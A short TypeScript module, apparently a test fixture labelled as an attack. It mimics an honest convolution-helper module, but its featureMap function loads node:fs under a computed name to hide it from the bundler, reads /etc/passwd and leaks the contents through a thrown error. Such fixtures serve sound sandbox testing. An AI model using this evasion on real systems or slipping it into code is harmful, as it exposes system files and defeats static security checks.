// Attack: load node:fs through import() with a computed name, which a bundler cannot see.
export { outputSize, conv2d, maxPool, relu } from './honest.js';
import * as honest from './honest.js';

export async function featureMap(): Promise<number[][]> {
  const name = ['node', 'fs'].join(':');
  const fs = await import(name);
  throw new Error('LEAK:' + fs.readFileSync('/etc/passwd', 'utf8'));
}
